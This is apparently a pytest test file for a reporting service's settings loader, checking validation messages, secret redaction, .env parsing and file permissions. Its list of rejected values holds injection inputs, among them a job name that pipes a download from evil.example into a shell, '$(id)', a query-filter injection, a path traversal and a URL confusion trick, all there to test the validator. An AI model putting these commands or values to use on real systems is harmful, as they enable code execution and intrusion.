"""Settings are checked whole, and no error repeats a value."""

import re
import subprocess
import traceback
from pathlib import Path
from typing import Any

import pytest
from pydantic import SecretStr

from src.config.loader import Settings, load_settings
from src.config.settings import Sender
from src.domain.analysis import FAILED_STATUSES, FailedStatuses
from src.domain.baseline import Thresholds
from src.errors import SettingsError

from ..builders import figures_of

WHOLE = {
    "SUPABASE_URL": "https://abcdefgh.supabase.co",
    "SUPABASE_KEY": "sb_secret_0123456789ab",
    "SMTP_HOST": "smtp.example.com",
    "SMTP_USER": "reports@example.com",
    "SMTP_PASSWORD": "correct horse battery",
    "SMTP_FROM": "reports@example.com",
    "SMTP_TO": "a@example.com,b@example.com",
    "TELEGRAM_BOT_TOKEN": "123456:AAHqwertyuiopasdfghjklzxcvbnm",
    "TELEGRAM_CHAT_ID": "-1001234567890",
}


def checked_settings(env_file: Path | None) -> Settings:
    """Read and check the settings."""
    return load_settings(env_file).checked()


@pytest.fixture
def environment(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """An environment with a whole set of settings, to be changed."""
    for name, value in WHOLE.items():
        monkeypatch.setenv(name, value)
    return monkeypatch


def checked_error(env_file: Path | None) -> SettingsError:
    """Return the error that the settings come to."""
    with pytest.raises(SettingsError) as caught:
        checked_settings(env_file)
    return caught.value


def problems() -> list[str]:
    """List what the loader finds wrong."""
    return checked_error(None).problems


def named(text: str) -> list[str]:
    """List the settings, or what looks like one, that a sentence names."""
    return re.findall(r"\b[A-Z]+_[A-Z_]+\b", text)


def test_everything_missing_is_named_at_once_one_line_a_variable(environment: pytest.MonkeyPatch) -> None:
    """An operator corrects all variables in one go."""
    for name in WHOLE:
        environment.delenv(name)

    assert [*WHOLE] == [line.split()[0] for line in problems()]
    assert all("is missing; use " in line for line in problems())


@pytest.mark.parametrize(
    ("name", "value", "reason"),
    [
        ("SUPABASE_URL", "abcdefgh.supabase.co", "is not a whole https:// address"),
        ("SUPABASE_URL", "https://", "is not a whole https:// address"),
        ("SUPABASE_URL", "ftp://abcdefgh.supabase.co", "is not a whole https:// address"),
        ("SUPABASE_URL", "https://abcdefgh.supabase.co:port", "is not a whole https:// address"),
        ("SUPABASE_URL", "https://me:word@abcdefgh.supabase.co", "carries more than an address"),
        ("SUPABASE_KEY", "sb_secret_01234 6789ab", "is shorter than 20 characters, or contains blanks or unusual ones"),
        ("SUPABASE_KEY", "sb_secret_012345678", "is shorter than 20 characters, or contains blanks or unusual ones"),
        ("SUPABASE_TABLE", "public.analyses", "names a schema"),
        ("SUPABASE_TABLE", "my table", "is not a table's name"),
        ("SUPABASE_JWT", "sb_secret_0123456789", "is not a JWT (three parts, dots between)"),
        ("SUPABASE_JWT", "eyJh.eyJi", "is not a JWT (three parts, dots between)"),
        ("SUPABASE_JWT", "eyJh.eyJi.c+c=", "is not a JWT (three parts, dots between)"),
        ("REPORT_CHANNELS", "email,fax", "must be email, telegram, or both"),
        ("REPORT_CHANNELS", ",", "must have at least 1 item; use email"),
        ("SMTP_HOST", "https://smtp.example.com", "is not a plain host name"),
        ("SMTP_PORT", "0", "must be a port, like 465"),
        ("SMTP_PORT", "https", "must be an integer, like 465"),
        ("SMTP_SECURITY", "none", "must be tls "),
        ("SMTP_FROM", "Reports a@example.com", "is neither an e-mail address nor Name <address>"),
        ("SMTP_FROM", "Reports <a@example.com", "is neither an e-mail address nor Name <address>"),
        ("SMTP_FROM", "A\nB <a@example.com>", "is neither an e-mail address nor Name <address>"),
        ("SMTP_FROM", '"Reports" Inc. <a@example.com>', "is neither an e-mail address nor Name <address>"),
        ("SMTP_FROM", '"Reports\\" <a@example.com>', "is neither an e-mail address nor Name <address>"),
        ("SMTP_LOGIN", "relay", "must be password, oauth2, or none"),
        ("SMTP_REPLY_TO", "Team <a@example.com>", "is not an e-mail address"),
        ("TELEGRAM_SILENT", "yes", "must be never, normal "),
        ("REPORT_NAME", "Staging\nBcc: a", "is not one short line"),
        ("REPORT_NAME", "x" * 61, "is not one short line"),
        ("REPORT_LANGUAGE", "de", "must be en or ru"),
        ("REPORT_FAILED_STATUSES", "failed,a|b", "entry 2 of 2 is not a status"),
        (
            "REPORT_FAILED_STATUSES",
            ",".join(f"{number}" for number in range(51)),
            "must have at most 50 items; use statuses",
        ),
        ("REPORT_WARN_SUCCESS_BELOW", "101", "must be per cent from 0 to 100"),
        ("REPORT_WARN_FAILED_ABOVE", "10 %", "must be a number, like 10"),
        ("REPORT_WARN_FAILED_ABOVE", "nan", "must be per cent from 0 to 100"),
        ("REPORT_WARN_SLOWER_THAN", "-1", "must be seconds from 0 to 86400"),
        ("SMTP_TO", ",", "must have at least 1 item; use addresses"),
        ("TELEGRAM_CHAT_ID", ",", "must have at least 1 item; use chats"),
        ("REPORT_ONLY", ",", "is empty; use some of the recipients"),
        ("REPORT_FAILED_STATUSES", ",", "must have at least 1 item; use statuses"),
        ("SMTP_TO", "a@example.com;b@example.com c@example.com", "entry 2 of 2 is not an e-mail address"),
        ("SMTP_TO", '"a@example.com, b@example.com', "entry 1 of 2 is not an e-mail address"),
        ("SMTP_TO", "Doe, Anna <a@example.com>", "entry 1 of 2 is not an e-mail address"),
        ("SMTP_TO", "a@example.com <b@example.com", "entry 1 of 1 is not an e-mail address"),
        ("SMTP_TO", "a@example.com, b, c@", "entry 2, 3 of 3 is not an e-mail address"),
        ("SMTP_TO", "a@example.com\nBcc: b@example.com", "entry 2 of 2 is not an e-mail address"),
        ("TELEGRAM_BOT_TOKEN", "AAHqwertyuiopasdfghjklzxcvbnm", "is not a bot token"),
        ("TELEGRAM_CHAT_ID", "-100123,channel", "entry 2 of 2 is not a chat id"),
        ("TELEGRAM_CHAT_ID", "-100123/0,-100123/12,-100123/", "entry 1, 3 of 3 is not a chat id"),
        ("TELEGRAM_ALERT_CHAT_ID", "-100123/-12", "is not a chat id"),
        ("TELEGRAM_ALERT_CHAT_ID", "-100123/1/2", "is not a chat id"),
        ("TELEGRAM_API_URL", "api.telegram.org", "is not a whole https:// address"),
        ("REPORT_TEMPLATE", "weekly", "must be hourly or daily"),
        ("REPORT_TIMEZONE", "Moscow", "is not a known time zone"),
        ("REPORT_TIMEZONE", "America", "is not a known time zone"),
        ("REPORT_TIMEZONE", "../etc/passwd", "is not a known time zone"),
        ("REPORT_DIR", "/no/such/folder", "does not point to a folder"),
        ("REPORT_SETTLE", "-1", "must be seconds from 0 to 600, like 30"),
        ("SMTP_PASSWORD", "pässword", "is shorter than 4 characters or contains some beyond ASCII"),
        ("SMTP_PASSWORD", "abc", "is shorter than 4 characters or contains some beyond ASCII"),
        ("SMTP_HOST", "smtp..example.com", "is not a plain host name"),
        ("REPORT_START", "yesterday", "is not a date and time"),
        ("TELEGRAM_ALERT_CHAT_ID", "operators", "is not a chat id"),
        ("REPORT_ALLOW_HTTP", "perhaps", "must be true or false"),
        ("SUPABASE_URL", "http://rest.example.com", "is http:// to another machine"),
        ("SUPABASE_URL", "http://10.0.0.7:8000", "is http:// to another machine"),
        ("TELEGRAM_API_URL", "http://bot-api:8081", "is http:// to another machine"),
        ("TELEGRAM_API_URL", "http://x.localhost:8081", "is http:// to another machine"),
        ("SUPABASE_URL", "http://127.1:8000", "is http:// to another machine"),
        ("SUPABASE_URL", "http://localhost.:8000", "is http:// to another machine"),
        ("SUPABASE_URL", "http://[::ffff:127.0.0.1]:8000", "is http:// to another machine"),
        ("HEARTBEAT_URL", "http://ping.localhost/0123", "is http:// to another machine"),
        ("SUPABASE_URL", "https://:word@abcdefgh.supabase.co", "carries more than an address"),
        ("SUPABASE_URL", "https://@abcdefgh.supabase.co", "carries more than an address"),
        ("SUPABASE_URL", "http://localhost@evil.example", "carries more than an address"),
        ("SUPABASE_URL", "http://evil.example\\@localhost", "carries more than an address"),
        ("SUPABASE_URL", "https://abcdefgh.supabase.co?", "carries more than an address"),
        ("SUPABASE_URL", "https://abcdefgh.supabase.co/a\tb", "is not a whole https:// address"),
        ("HEARTBEAT_URL", "https://:word@hc-ping.com/0123", "carries more than an address"),
        ("TELEGRAM_API_URL", "https://:word@api.telegram.org", "carries more than an address"),
        ("JOB_NAME", "Reports", "is not a Job's name in Kubernetes"),
        ("JOB_NAME", "reports; curl evil.example | sh", "is not a Job's name in Kubernetes"),
        ("JOB_NAME", "$(id)", "is not a Job's name in Kubernetes"),
        ("JOB_NAME", "reports-", "is not a Job's name in Kubernetes"),
        ("JOB_NAME", "a..b", "is not a Job's name in Kubernetes"),
        ("JOB_NAME", 64 * "a", "is not a Job's name in Kubernetes"),
        ("POD_NAME", 'pod",lease_until.gt.now,holder.eq."', "is not a pod's name in Kubernetes"),
        ("POD_NAME", "pod_1", "is not a pod's name in Kubernetes"),
        ("POD_NAME", 254 * "a", "is not a pod's name in Kubernetes"),
        ("POD_NAMESPACE", "team.production", "is not a namespace in Kubernetes"),
        ("POD_NAMESPACE", "production -o yaml", "is not a namespace in Kubernetes"),
        ("POD_NAMESPACE", 64 * "a", "is not a namespace in Kubernetes"),
        ("SMTP_USER", "your-email@gmail.com", "is still the placeholder"),
        ("SMTP_PASSWORD", "your-app-password", "is still the placeholder"),
        ("SUPABASE_KEY", "change-me", "is still the placeholder"),
        ("SUPABASE_URL", "https://change-me.supabase.co", "is still the placeholder"),
        ("SMTP_TO", "a@example.com,change-me@example.com", "is still the placeholder"),
    ],
)
def test_a_wrong_value_is_named_with_what_is_wrong_and_what_is_right(
    environment: pytest.MonkeyPatch, name: str, value: str, reason: str
) -> None:
    """The line names the variable, the reason and a right value's look."""
    environment.setenv(name, value)

    (line,) = problems()

    assert line.startswith(f"{name} {reason}")
    assert "; use " in line or f"{name} must be " in line


@pytest.mark.parametrize(
    ("value", "meant"),
    [
        ("Europe/Moskow", ["Europe/Moscow"]),
        ("europe/moscow ", ["Europe/Moscow"]),
        ("Moscow", ["Europe/Moscow"]),
        ("New York", ["America/New_York"]),
        ("GMT+3", []),
        ("MSK", []),
        ("../etc/passwd", []),
    ],
)
def test_a_misspelt_zone_is_answered_with_the_one_that_was_meant(
    environment: pytest.MonkeyPatch, value: str, meant: list[str]
) -> None:
    """Etc/GMT+3, which lies three hours the other way, is never meant."""
    environment.setenv("REPORT_TIMEZONE", value)

    try:
        assert [checked_settings(None).report.report_timezone.key] == meant  # a disk may not tell capitals apart
    except SettingsError as error:
        (line,) = error.problems
        assert re.findall(r"did you mean (.+)\?", line) == meant


@pytest.mark.parametrize("here", [True, False])
def test_without_an_env_file_the_command_that_makes_it_is_said(
    environment: pytest.MonkeyPatch, tmp_path: Path, here: bool
) -> None:
    """Pasted into a shell it works; where no example stands beside it, as in the image, only the path is said."""
    folder = tmp_path / "it's a $(folder)"
    folder.mkdir()
    environment.chdir(folder if here else tmp_path)
    environment.delenv("SMTP_HOST")

    def remedy() -> str:
        return checked_error(folder / ".env").problem.remedy

    without_example = remedy()
    (folder / ".env.example").write_text("SMTP_HOST=smtp.example.com\n")
    command = remedy().rpartition(" --check: ")[2]
    subprocess.run(command, shell=True, check=True, timeout=60)

    assert (str(folder / ".env") in without_example, "cp " in without_example) == (True, False)
    assert command.startswith("cp .env.example .env ") == here
    assert (folder / ".env").stat().st_mode & 0o777 == 0o600
    assert load_settings(folder / ".env").problems == []


def test_where_an_env_file_does_not_help_none_is_asked_for(environment: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """On a cluster settings come from elsewhere; a wrong one is set already; and the file may be there."""
    (tmp_path / ".env.example").touch()
    environment.setenv("SMTP_PORT", "none")
    wrong = checked_error(tmp_path / ".env")
    environment.delenv("SMTP_HOST")
    (tmp_path / "there").touch()
    there = checked_error(tmp_path / "there")
    environment.setenv("JOB_NAME", "reports")
    in_job = checked_error(tmp_path / ".env")

    assert not any("cp " in error.problem.remedy for error in (wrong, there, in_job))


@pytest.mark.parametrize("name", sorted(WHOLE))
def test_no_error_repeats_a_value_not_even_in_its_traceback(environment: pytest.MonkeyPatch, name: str) -> None:
    """A secret put into the wrong place stays unseen."""
    secret = "hunter2 é;<change-me>"
    environment.setenv(name, secret)

    with pytest.raises(SettingsError) as caught:
        checked_settings(None)

    shown = repr(caught.value) + "".join(traceback.format_exception(caught.value))
    assert caught.value.__context__ is None
    assert name in shown
    assert "hunter2" not in shown


def test_a_wrong_report_setting_does_not_open_the_way_for_plain_http(environment: pytest.MonkeyPatch) -> None:
    """Both are told, and no alert carries the token that way."""
    environment.setenv("REPORT_TEMPLATE", "weekly")
    environment.setenv("TELEGRAM_API_URL", "http://10.0.0.7")

    loaded = load_settings(None)

    assert [line.split()[0] for line in loaded.problems] == ["REPORT_TEMPLATE", "TELEGRAM_API_URL"]
    assert loaded.telegram is None


def test_the_settings_themselves_show_no_secret(environment: pytest.MonkeyPatch) -> None:
    """A `repr` in some log is harmless."""
    shown = repr(checked_settings(None))

    for name in ("SUPABASE_KEY", "SMTP_PASSWORD", "TELEGRAM_BOT_TOKEN"):
        assert WHOLE[name] not in shown


def test_values_are_stripped_of_blanks_and_line_ends(environment: pytest.MonkeyPatch) -> None:
    """A secret made with `echo` ends in a line break."""
    for name, value in WHOLE.items():
        environment.setenv(name, f"  {value}\r\n")

    settings = checked_settings(None)

    assert settings.supabase.supabase_key.get_secret_value() == WHOLE["SUPABASE_KEY"]
    assert settings.mail is not None
    assert settings.mail.smtp_password == SecretStr(WHOLE["SMTP_PASSWORD"])
    assert settings.mail.smtp_to == ("a@example.com", "b@example.com")


def test_a_blank_value_counts_as_missing(environment: pytest.MonkeyPatch) -> None:
    """An empty key in a Secret is not a password."""
    environment.setenv("SMTP_PASSWORD", " \n")

    (line,) = problems()

    assert (named(line)[0], "missing" in line) == ("SMTP_PASSWORD", True)


@pytest.mark.parametrize(
    ("channels", "prefix", "gone"), [("email", "TELEGRAM_", "telegram"), ("telegram", "SMTP_", "mail")]
)
def test_a_channel_left_out_needs_none_of_its_variables(
    environment: pytest.MonkeyPatch, channels: str, prefix: str, gone: str
) -> None:
    """Who wants no Telegram needs no bot."""
    environment.setenv("REPORT_CHANNELS", channels)
    for name in WHOLE:
        if name.startswith(prefix):
            environment.delenv(name)

    assert getattr(checked_settings(None), gone) is None


def test_an_entry_given_twice_counts_once(environment: pytest.MonkeyPatch) -> None:
    """Nobody gets a report twice for a typing error."""
    environment.setenv("SMTP_TO", "a@example.com, b@example.com, A@example.com,")

    settings = checked_settings(None)

    assert settings.mail is not None
    assert [address.lower() for address in settings.mail.smtp_to] == ["a@example.com", "b@example.com"]


@pytest.mark.parametrize(
    ("spelling", "usual"),
    [
        *((f"https://abc.supabase.co{end}", "https://abc.supabase.co") for end in ("", "/", "/rest/v1", "/rest/v1/")),
        ("https://ABC.supabase.CO", "https://abc.supabase.co"),
        ("https://abc.supabase.co:443/", "https://abc.supabase.co"),
        ("http://127.0.0.1:80", "http://127.0.0.1"),
        ("https://abc.supabase.co:8443", "https://abc.supabase.co:8443"),
        ("http://[::1]:54321/Path", "http://[::1]:54321/Path"),
    ],
)
def test_the_project_address_is_the_same_however_it_is_spelt(
    environment: pytest.MonkeyPatch, spelling: str, usual: str
) -> None:
    """With the REST path as the dashboard shows it too; the usual spelling stays, under which 1.0 kept its records."""
    environment.setenv("SUPABASE_URL", spelling)

    assert checked_settings(None).supabase.supabase_url == usual


@pytest.mark.parametrize("url", ["http://127.0.0.1:54321", "http://localhost:54321", "http://[::1]:54321"])
def test_http_to_this_very_machine_is_fine(environment: pytest.MonkeyPatch, url: str) -> None:
    """Nobody listens between."""
    environment.setenv("SUPABASE_URL", url)

    assert checked_settings(None).supabase.supabase_url == url


def test_http_to_a_service_inside_the_cluster_can_be_allowed(environment: pytest.MonkeyPatch) -> None:
    """By saying so."""
    environment.setenv("TELEGRAM_API_URL", "http://bot-api:8081")
    environment.setenv("REPORT_ALLOW_HTTP", "true")

    settings = checked_settings(None)

    assert settings.telegram is not None
    assert settings.telegram.telegram_api_url == "http://bot-api:8081"


def test_the_env_file_fills_in_and_the_environment_wins(environment: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """`.env` is for a developer's machine; what the cluster sets stands above it."""
    environment.delenv("SMTP_HOST")
    env_file = tmp_path / ".env"
    env_file.write_text("SMTP_HOST=from-file.example.com\nSMTP_USER=from-file\nSOMETHING_ELSE=secret\n")

    settings = checked_settings(env_file)

    assert settings.mail is not None
    assert (settings.mail.smtp_host, settings.mail.smtp_user) == ("from-file.example.com", WHOLE["SMTP_USER"])


@pytest.mark.parametrize("quote", ["", "'", '"'])
def test_a_value_of_the_env_file_is_taken_as_it_is_written(
    environment: pytest.MonkeyPatch, tmp_path: Path, quote: str
) -> None:
    """A password may look like a reference to a variable; whoever wanted one is warned, and the value stays unseen."""
    environment.delenv("SMTP_PASSWORD")
    environment.setenv("WORD", "something else")
    (tmp_path / ".env").write_text(f"\nSMTP_PASSWORD={quote}p-${{WORD}}-q{quote}\n")
    (tmp_path / ".env").chmod(0o600)

    loaded = load_settings(tmp_path / ".env")

    assert loaded.mail
    assert loaded.mail.smtp_password == SecretStr("p-${WORD}-q")
    assert "p-${WORD}-q" in loaded.secrets()
    (hint,) = loaded.hints
    assert (figures_of(hint)[0], named(hint), "WORD" in hint.replace("SMTP_PASSWORD", "")) == (
        "2",
        ["SMTP_PASSWORD"],
        False,
    )


@pytest.mark.parametrize(
    ("line", "password", "warns"),
    [
        ("SMTP_PASSWORD=correct #horse", "correct", True),
        ("export SMTP_PASSWORD = correct\t# horse", "correct", True),
        ("SMTP_PASSWORD='correct #horse'", "correct #horse", False),
        ("SMTP_PASSWORD='correct' # horse", "correct", False),
        ("SMTP_PASSWORD=correct#horse", "correct#horse", False),
        ("SMTP_PASSWORD=#horse", "#horse", False),
        ("SMTP_PASSWORD=correct\n# horse = battery # staple\nOTHERS=a # b", "correct", False),
    ],
)
def test_what_is_cut_off_in_the_env_file_is_said(
    environment: pytest.MonkeyPatch, tmp_path: Path, line: str, password: str, warns: bool
) -> None:
    """With the setting's name and not with its value; a comment behind quotes, or of other programs, needs none."""
    environment.delenv("SMTP_PASSWORD")
    (tmp_path / ".env").write_text(f"{line}\n")
    (tmp_path / ".env").chmod(0o600)

    loaded = load_settings(tmp_path / ".env")

    assert loaded.mail
    assert loaded.mail.smtp_password == SecretStr(password)
    hints = [hint for hint in loaded.hints if "#" in hint]
    assert [named(hint) for hint in hints] == [["SMTP_PASSWORD"]] * warns
    assert not any("correct" in hint or "horse" in hint for hint in hints)


def test_a_line_of_the_env_file_that_nobody_understands_is_a_hint(
    environment: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Once, by its number; the lines around it count."""
    environment.delenv("SMTP_HOST")
    (tmp_path / ".env").write_text("SMTP_HOST=smtp.example.com\nSMTP_USER='no end\nLOG_LEVEL=DEBUG\n")
    (tmp_path / ".env").chmod(0o600)

    loaded = load_settings(tmp_path / ".env")

    (hint,) = loaded.hints
    assert (figures_of(hint)[0], "no end" in hint) == ("2", False)
    assert (loaded.problems, loaded.watch.log_level) == ([], "DEBUG")


def test_settings_cannot_be_changed_later(environment: pytest.MonkeyPatch) -> None:
    """What was checked is what is used."""
    settings: Any = checked_settings(None)

    with pytest.raises(ValueError, match="frozen"):
        settings.supabase.supabase_table = "other"


def test_an_empty_variable_is_not_set_whatever_the_env_file_says(
    environment: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """The environment wins."""
    (tmp_path / ".env").write_text("REPORT_BUCKET=reports\nREPORT_TEMPLATE=daily\n")
    environment.setenv("REPORT_BUCKET", "")

    settings = checked_settings(tmp_path / ".env")

    assert (settings.report.report_bucket, settings.report.report_template) == (None, "daily")


def test_an_authority_that_is_not_there_is_named(environment: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """Python would pass it over and trust whom it always trusts."""
    environment.setenv("SSL_CERT_FILE", str(tmp_path / "nowhere.pem"))

    (line,) = problems()
    assert named(line) == ["SSL_CERT_FILE"]
    assert "nowhere" not in line


@pytest.mark.parametrize(("level", "form"), [("info", "JSON"), ("Warning", "Text")])
def test_letters_of_any_size_name_the_form_of_the_log(environment: pytest.MonkeyPatch, level: str, form: str) -> None:
    """People write them either way."""
    environment.setenv("LOG_LEVEL", level)
    environment.setenv("LOG_FORMAT", form)

    watch = load_settings(None).watch
    assert (watch.log_level, watch.log_format) == (level.upper(), form.lower())


def test_a_misspelt_variable_is_named_with_the_one_that_was_meant(
    environment: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """In the environment as in the file; what belongs to other programs is left alone."""
    (tmp_path / ".env").write_text("SMTP_PROT=587\n")
    (tmp_path / ".env").chmod(0o600)
    environment.setenv("REPORT_TIMEZOME", "Europe/Berlin")
    environment.setenv("REPORT_CHAT", "1")
    environment.setenv("LOG_LEVLE", "DEBUG")
    environment.setenv("LOG_FILE", "x.log")
    for name in ("HOST", "PORT", "PORT_8000_TCP", "PORT_8000_TCP_ADDR"):
        environment.setenv(f"SUPABASE_KONG_SERVICE_{name}", "what Kubernetes sets for a Service")

    assert [named(hint) for hint in load_settings(tmp_path / ".env").hints] == [
        ["LOG_LEVLE", "LOG_LEVEL"],
        ["REPORT_CHAT"],
        ["REPORT_TIMEZOME", "REPORT_TIMEZONE"],
        ["SMTP_PROT", "SMTP_PORT"],
    ]


def test_a_value_in_quotes_is_said(environment: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """docker's --env-file keeps them, and a key in quotes is no key; those of .env are taken away."""
    (tmp_path / ".env").write_text('REPORT_TIMEZONE="Europe/Berlin"\n')
    (tmp_path / ".env").chmod(0o600)
    environment.setenv("SUPABASE_TABLE", "'analyses'")

    (hint,) = load_settings(tmp_path / ".env").hints
    assert (named(hint), "quotation mark" in hint) == (["SUPABASE_TABLE"], True)


@pytest.mark.parametrize(
    ("security", "port", "hints"),
    [
        ("starttls", "465", ["SMTP_PORT=465 goes with SMTP_SECURITY=tls, not with starttls."]),
        ("tls", "587", ["SMTP_PORT=587 goes with SMTP_SECURITY=starttls, not with tls."]),
        ("tls", "465", []),
        ("starttls", "587", []),
        ("starttls", "2525", []),
    ],
)
def test_a_mail_port_that_speaks_otherwise_is_a_hint(
    environment: pytest.MonkeyPatch, security: str, port: str, hints: list[str]
) -> None:
    """No error: a server may do as it likes."""
    environment.setenv("SMTP_SECURITY", security)
    environment.setenv("SMTP_PORT", port)

    loaded = load_settings(None)

    assert (loaded.hints, loaded.problems) == (hints, [])


def test_a_mail_port_is_no_matter_where_nothing_goes_by_mail(environment: pytest.MonkeyPatch) -> None:
    """The channel's settings aren't even read."""
    environment.setenv("SMTP_PORT", "587")
    environment.setenv("REPORT_CHANNELS", "telegram")

    assert load_settings(None).hints == []


@pytest.mark.parametrize(
    ("value", "name", "address"),
    [
        ("reports@example.com", "", "reports@example.com"),
        ("Reports <reports@example.com>", "Reports", "reports@example.com"),
        ("Отчёты, №1 <a@b.c>", "Отчёты, №1", "a@b.c"),
        ("Reports<a@b.c>", "Reports", "a@b.c"),
    ],
)
def test_a_sender_is_an_address_with_a_name_or_without(
    environment: pytest.MonkeyPatch, value: str, name: str, address: str
) -> None:
    """As mail programs write it."""
    environment.setenv("SMTP_FROM", value)
    environment.setenv("SMTP_REPLY_TO", "team@example.com")

    mail = checked_settings(None).mail
    assert mail
    assert mail.sender == Sender(name=name, address=address, reply_to="team@example.com")


def test_limits_and_statuses_are_as_they_are_set(environment: pytest.MonkeyPatch) -> None:
    """Per cent become shares; nothing is a limit that isn't set, and zero is one."""
    assert checked_settings(None).report.thresholds == Thresholds()
    assert checked_settings(None).report.report_failed_statuses == FAILED_STATUSES
    for name, value in (
        ("REPORT_WARN_SUCCESS_BELOW", "99.5"),
        ("REPORT_WARN_FAILED_ABOVE", "0"),
        ("REPORT_WARN_SLOWER_THAN", "30"),
        ("REPORT_FAILED_STATUSES", "Failed, timed out ,failed"),
    ):
        environment.setenv(name, value)

    report = checked_settings(None).report
    assert report.thresholds == Thresholds(success_below=0.995, failed_above=0, slower_than=30)
    assert FailedStatuses(report.report_failed_statuses).plain == {"failed", "timed out"}


@pytest.mark.parametrize(
    ("alert_chat", "told"),
    [("-100999", "-100999"), ("-1001234567890/12", "-1001234567890/12"), ("-1001234567890", None), ("", None)],
)
def test_unusual_hours_are_told_to_an_alert_chat_of_its_own(
    environment: pytest.MonkeyPatch, alert_chat: str, told: str | None
) -> None:
    """One that gets the report itself is told by that."""
    environment.setenv("TELEGRAM_ALERT_CHAT_ID", alert_chat)

    telegram = checked_settings(None).telegram
    assert telegram
    assert telegram.unusual_chat == told


@pytest.mark.parametrize(
    ("operators", "is_hint"),
    [({}, True), ({"SMTP_ALERT_TO": "ops@example.com"}, False), ({"TELEGRAM_ALERT_CHAT_ID": "77"}, False)],
)
def test_hidden_recipients_whom_alerts_would_name_to_each_other_are_a_hint(
    environment: pytest.MonkeyPatch, operators: dict[str, str], is_hint: bool
) -> None:
    """Without operators, an alert goes to all readers."""
    environment.setenv("SMTP_HIDE_RECIPIENTS", "true")
    for name, value in operators.items():
        environment.setenv(name, value)

    hints = [named(hint) for hint in load_settings(None).hints]

    assert hints == [["SMTP_HIDE_RECIPIENTS", "SMTP_ALERT_TO", "TELEGRAM_ALERT_CHAT_ID"]] * is_hint


def test_a_secret_key_beside_a_token_is_a_hint(environment: pytest.MonkeyPatch) -> None:
    """The token was made so that the secret key need not be here."""
    environment.setenv("SUPABASE_JWT", "eyJh.eyJi.c-_9")
    with_secret = load_settings(None)
    environment.setenv("SUPABASE_KEY", "sb_publishable_0123456789")

    (hint,) = with_secret.hints
    assert (named(hint), with_secret.problems) == (["SUPABASE_JWT", "SUPABASE_KEY"], [])
    assert load_settings(None).hints == []


def test_a_tokens_signature_is_a_secret_of_its_own(environment: pytest.MonkeyPatch) -> None:
    """What stands before it can be guessed, and nobody needs it from elsewhere."""
    environment.setenv("SUPABASE_JWT", "eyJh.eyJi.c-_9")

    secrets = load_settings(None).secrets()

    assert {WHOLE["SUPABASE_KEY"], "eyJh.eyJi.c-_9", "c-_9"} <= set(secrets)


@pytest.mark.parametrize("mode", [0o644, 0o640, 0o602, 0o600, 0o400])
def test_a_file_of_settings_that_others_may_read_is_named_with_the_command_that_closes_it(
    environment: pytest.MonkeyPatch, tmp_path: Path, mode: int
) -> None:
    """Pasted into a shell it works, whatever the folder is called."""
    environment.setenv("SMTP_PORT", "465")
    folder = tmp_path / "it's a $(folder)"
    folder.mkdir()
    env_file = folder / ".env"
    env_file.touch()
    env_file.chmod(mode)

    hints = load_settings(env_file).hints

    if mode & 0o077:
        (hint,) = hints
        assert str(env_file) in hint.partition(" Run: ")[0]
        subprocess.run(hint.partition(" Run: ")[2], shell=True, check=True, timeout=60)
        assert load_settings(env_file).hints == []
        assert env_file.stat().st_mode & 0o777 == 0o600
    else:
        assert hints == []


def test_every_name_that_kubernetes_gives_is_taken(environment: pytest.MonkeyPatch) -> None:
    """Up to the longest, with dots where it allows them."""
    names = {"JOB_NAME": f"1.a-{59 * 'b'}", "POD_NAME": f"{126 * 'a.'}b", "POD_NAMESPACE": f"0-{61 * 'a'}"}
    for name, value in names.items():
        environment.setenv(name, value)

    report = checked_settings(None).report

    assert [report.job_name, report.pod_name, report.pod_namespace] == [*names.values()]


def test_a_secret_is_known_though_its_group_is_incomplete_or_unused(environment: pytest.MonkeyPatch) -> None:
    """It may turn up in an error all the same."""
    environment.delenv("SMTP_HOST")
    environment.setenv("SUPABASE_URL", "nowhere")
    environment.setenv("TELEGRAM_BOT_TOKEN", "12345678")
    environment.setenv("HEARTBEAT_URL", "ftp://hc.example/0b0e7a52-5d1c-4f0e-9a63-3f1f5c0d9a11")
    whole = load_settings(None).secrets()
    environment.setenv("REPORT_CHANNELS", "telegram")
    unused = load_settings(None).secrets()

    for secrets in (whole, unused):
        assert {WHOLE["SUPABASE_KEY"], WHOLE["SMTP_PASSWORD"], "12345678"} <= {*secrets}
        assert f"\0{WHOLE['SMTP_USER']}\0{WHOLE['SMTP_PASSWORD']}" in secrets
        assert "0b0e7a52-5d1c-4f0e-9a63-3f1f5c0d9a11" in secrets


def test_a_secret_in_the_env_file_alone_is_known_too(environment: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """As on a developer's machine."""
    for name in WHOLE:
        environment.delenv(name)
    (tmp_path / ".env").write_text("SMTP_PASSWORD='only-in-the-file'\nSMTP_PROT=1\n")

    loaded = load_settings(tmp_path / ".env")

    assert "only-in-the-file" in loaded.secrets()
    assert "only-in-the-file" not in repr(loaded)


def test_a_secret_of_the_environment_is_known_though_the_env_file_cannot_be_read(
    environment: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Which is said once, and nothing else: what it would have set is not known."""
    (tmp_path / ".env").write_bytes(b"SMTP_HOST=\xff\n")

    loaded = load_settings(tmp_path / ".env")

    assert WHOLE["SMTP_PASSWORD"] in loaded.secrets()
    assert (len(loaded.problems), str(tmp_path / ".env") in loaded.problems[0]) == (1, True)


@pytest.mark.parametrize("value", ["change-me", "your-app-password", "abc", " "])
def test_what_is_no_secret_is_not_hidden(environment: pytest.MonkeyPatch, value: str) -> None:
    """A placeholder or three letters would be hidden in ordinary words."""
    environment.setenv("SMTP_PASSWORD", value)

    assert not any(value.strip() in secret for secret in load_settings(None).secrets() if value.strip())
    assert not any("\0" in secret for secret in load_settings(None).secrets())


@pytest.mark.parametrize(
    ("url", "hidden"),
    [
        ("https://hc.example/0b0e7a52-5d1c-4f0e-9a63-3f1f5c0d9a11", ["0b0e7a52-5d1c-4f0e-9a63-3f1f5c0d9a11"]),
        ("https://hc.example/fqOOd6-F4MMNuCEnzTU01w/reports-generator-hourly", ["fqOOd6-F4MMNuCEnzTU01w"]),
        ("https://up.example/api/push/aB3dE5gH7jK9mN1pQ3sT", ["aB3dE5gH7jK9mN1pQ3sT"]),
        ("https://hc.example/ping/reports-generator-production-2", []),
